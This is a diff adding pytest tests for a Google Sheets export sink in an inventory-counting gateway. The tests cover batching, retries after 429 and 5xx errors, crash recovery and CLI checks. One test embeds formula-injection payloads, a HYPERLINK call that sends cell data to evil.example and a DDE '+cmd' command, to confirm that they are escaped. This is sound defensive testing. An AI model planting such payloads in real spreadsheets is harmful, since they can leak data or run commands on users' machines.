@@ -1,0 +1,192 @@
+"""Sheets sink: real gspread over HTTP against the Sheets-compatible fake, real store outbox."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from gateway.config import load_settings
+from gateway.sinks.commands import doctor_lines, export_main
+from gateway.sinks.registry import build_sinks
+from gateway.sinks.sheets import HEADER, VARIANCES, SheetsSink
+from gateway.sinks.worker import OutboxWorker
+from tests.fakes.bays import Bays, Clock, row
+
+if TYPE_CHECKING:  # the module is a pytest plugin: imported by pytest, not here
+    from tests.fakes.sheets_server import SheetsEnv
+
+pytest_plugins = ["tests.fakes.sheets_server"]
+
+COUNT_ID = HEADER.index("Count_ID")
+
+
+def _setup(tmp_path: Path, sheets: SheetsEnv, **extra: str):
+    env = {**sheets.env(), **extra}
+    settings = load_settings(env, data_dir=tmp_path / "data")
+    bays = Bays.open(tmp_path / "store.db")
+    clock = Clock()
+    worker = OutboxWorker(bays.store, build_sinks(settings, bays.store.session_rows),
+                          clock=clock)
+    return settings, bays, clock, worker
+
+
+def _today(bays: Bays) -> str:
+    return bays.store.outbox_entries(bays.session_id)[0].created_at.date().isoformat()
+
+
+def test_bays_land_once_with_layout_header_and_variances(tmp_path: Path,
+                                                         sheets: SheetsEnv) -> None:
+    _, bays, _, worker = _setup(tmp_path, sheets)
+    bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 25), row("A-01-1", "SKU-10002", 3)])
+    bays.confirm("A-01-2", [row("A-01-2", "SKU-10003", 0)])
+    assert worker.run_once() == 2
+    title = _today(bays)
+    rows = sheets.fake.rows(sheets.key, title)
+    assert rows[0] == list(HEADER)
+    assert [r[COUNT_ID] for r in rows[1:]] == [bays.count_ids[0]] * 2 + [bays.count_ids[1]]
+    assert rows[1][:4] == ["A-01-1", "SKU-10001", "Test product SKU-10001", 25]
+    # No ERP configured: no system quantity, only the stock flags (default reorder point 10).
+    assert [r[-1] for r in rows[1:]] == ["", "Low stock", "Out of stock"]
+    book = sheets.fake.books[sheets.key]
+    grid = book.sheet(title)
+    assert grid is not None and grid.frozen_rows == 1
+    assert grid.formats[0]["cell"]["userEnteredFormat"]["textFormat"]["bold"] is True
+    flagged = sheets.fake.rows(sheets.key, VARIANCES)
+    assert [r[1] for r in flagged[1:]] == ["SKU-10002", "SKU-10003"]
+    # One append per worksheet for the whole batch: quotas count requests.
+    assert sheets.fake.count("POST", ":append") == 2
+    # Delivering again (a retry) adds nothing.
+    sink = worker.sinks[0]
+    for entry in bays.store.outbox_entries(bays.session_id):
+        sink.deliver(entry)
+    assert len(sheets.fake.rows(sheets.key, title)) == 4
+    assert len(sheets.fake.rows(sheets.key, VARIANCES)) == 3
+
+
+def test_formula_injection_is_escaped(tmp_path: Path, sheets: SheetsEnv) -> None:
+    _, bays, _, worker = _setup(tmp_path, sheets)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    bays.confirm("A-01-1", [row("A-01-1", "@SUM(1+1)", 12, description=evil),
+                            row("A-01-1", "+cmd|' /C calc'!A0", 11, description="-2+3")])
+    assert worker.run_once() == 1
+    rows = sheets.fake.rows(sheets.key, _today(bays))[1:]
+    assert rows[0][1] == "'@SUM(1+1)" and rows[0][2] == "'" + evil
+    assert rows[1][1].startswith("'+cmd") and rows[1][2] == "'-2+3"
+    assert all(not str(cell).startswith(("=", "+", "@")) for r in rows for cell in r)
+
+
+def test_quota_429_and_5xx_back_off_then_deliver(tmp_path: Path, sheets: SheetsEnv) -> None:
+    _, bays, clock, worker = _setup(tmp_path, sheets)
+    bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 12)])
+    entry = bays.store.outbox_entries(bays.session_id)[0]
+    sheets.fake.inject(429, count=1, retry_after=30)
+    assert worker.run_once() == 0
+    status = bays.store.outbox_status(entry.id)["sheets"]
+    assert "429" in status["last_error"] and status["delivered_at"] is None
+    assert (status["retry_at"] - clock.now).total_seconds() >= 30  # Retry-After honoured
+    clock.advance(10)
+    assert worker.run_once() == 0  # not due yet: nothing is sent
+    clock.advance(25)
+    sheets.fake.inject(503, count=1)
+    assert worker.run_once() == 0
+    status = bays.store.outbox_status(entry.id)["sheets"]
+    assert status["attempts"] == 2 and "503" in status["last_error"]
+    wait = (status["retry_at"] - clock.now).total_seconds()
+    assert 1.0 <= wait <= 4.0  # second attempt: base 2 s doubled, equal jitter
+    clock.advance(wait)
+    assert worker.run_once() == 1
+    assert len(sheets.fake.rows(sheets.key, _today(bays))) == 2
+
+
+def test_server_down_entries_wait_and_go_through(tmp_path: Path, sheets: SheetsEnv) -> None:
+    _, bays, clock, worker = _setup(tmp_path, sheets)
+    sheets.fake.stop()
+    for i in range(3):
+        bays.confirm(f"A-0{i + 1}-1", [row(f"A-0{i + 1}-1", f"SKU-1000{i + 1}", 20 + i)])
+    for _ in range(3):
+        assert worker.run_once() == 0
+        clock.advance(700)
+    entry = bays.store.outbox_entries(bays.session_id)[0]
+    assert "unreachable" in bays.store.outbox_status(entry.id)["sheets"]["last_error"]
+    sheets.fake.start()
+    assert worker.run_once() == 3
+    rows = sheets.fake.rows(sheets.key, _today(bays))
+    assert sorted(r[COUNT_ID] for r in rows[1:]) == sorted(bays.count_ids)
+
+
+class _DiesAfterSending:
+    """The store as seen by a worker process that dies right after the sheet got the rows."""
+
+    def __init__(self, store: object) -> None:
+        self._store = store
+
+    def __getattr__(self, name: str) -> object:
+        return getattr(self._store, name)
+
+    def outbox_mark_delivered(self, entry_id: str, sink: str) -> None:
+        raise KeyboardInterrupt("killed between sending and recording")
+
+
+def test_killed_between_sending_and_recording_no_duplicate(tmp_path: Path,
+                                                          sheets: SheetsEnv) -> None:
+    settings, bays, clock, _ = _setup(tmp_path, sheets)
+    for i in range(4):
+        bays.confirm(f"A-0{i + 1}-1", [row(f"A-0{i + 1}-1", f"SKU-1000{i + 1}", 20)])
+    doomed = OutboxWorker(_DiesAfterSending(bays.store),  # type: ignore[arg-type]
+                          build_sinks(settings, bays.store.session_rows), clock=clock)
+    with pytest.raises(KeyboardInterrupt):
+        doomed.run_once()
+    assert len(sheets.fake.rows(sheets.key, _today(bays))) == 5  # sent, never recorded
+    assert bays.delivered("sheets") == 0
+    restarted = OutboxWorker(bays.store, build_sinks(settings, bays.store.session_rows),
+                             clock=clock)
+    assert restarted.run_once() == 4
+    assert len(sheets.fake.rows(sheets.key, _today(bays))) == 5
+    assert restarted.run_once() == 0
+
+
+def test_worksheet_per_session_and_export(tmp_path: Path, sheets: SheetsEnv,
+                                          capsys: pytest.CaptureFixture[str]) -> None:
+    settings = load_settings({**sheets.env(), "SHELFCOUNT_SHEETS_WORKSHEET": "session"},
+                             data_dir=tmp_path / "data")
+    (tmp_path / "data").mkdir()
+    bays = Bays.open(tmp_path / "data" / "shelfcount.db")  # where open_store looks
+    bays.confirm("A-01-1", [row("A-01-1", "SKU-10001", 20)])
+    bays.confirm("A-01-2", [row("A-01-2", "SKU-10002", 20)])
+    assert export_main(settings, bays.session_id, "sheets") == 0
+    assert "2 of 2 bays" in capsys.readouterr().out
+    title = f"Session {bays.session_id}"
+    assert len(sheets.fake.rows(sheets.key, title)) == 3
+    assert export_main(settings, bays.session_id, "sheets") == 0  # again: nothing added
+    assert len(sheets.fake.rows(sheets.key, title)) == 3
+    assert bays.delivered("sheets") == 2
+    assert export_main(settings, bays.session_id, "tryton") == 2
+    assert "SHELFCOUNT_TRYTON_URL" in capsys.readouterr().err
+    assert export_main(settings, "no-such-session", "sheets") == 1
+
+
+def test_doctor_lines(tmp_path: Path, sheets: SheetsEnv) -> None:
+    def lines(**env: str) -> dict[str, str | None]:
+        return dict(doctor_lines(load_settings({**sheets.env(), **env},
+                                               data_dir=tmp_path)))
+
+    assert lines() == {"sheets": None}
+    assert "not found" in str(lines(SHELFCOUNT_SHEETS_SPREADSHEET="nope")["sheets"])
+    missing = lines(SHELFCOUNT_SHEETS_CREDENTIALS=str(tmp_path / "missing.json"))
+    assert "unusable" in str(missing["sheets"])
+    half = dict(doctor_lines(load_settings({"SHELFCOUNT_SHEETS_SPREADSHEET": "k"},
+                                           data_dir=tmp_path)))
+    assert half == {"sheets": "missing SHELFCOUNT_SHEETS_CREDENTIALS"}
+    sheets.fake.stop()
+    assert "unreachable" in str(lines()["sheets"])
+
+
+def test_token_endpoint_rejects_unknown_key(tmp_path: Path, sheets: SheetsEnv) -> None:
+    other = sheets.fake.service_account("intruder@example")
+    sheets.fake.public_keys.pop("intruder@example")
+    path = tmp_path / "intruder.json"
+    path.write_text(__import__("json").dumps(other))
+    sink = SheetsSink(path, sheets.key, endpoint=sheets.fake.url)
+    assert "token endpoint refused" in str(sink.check())
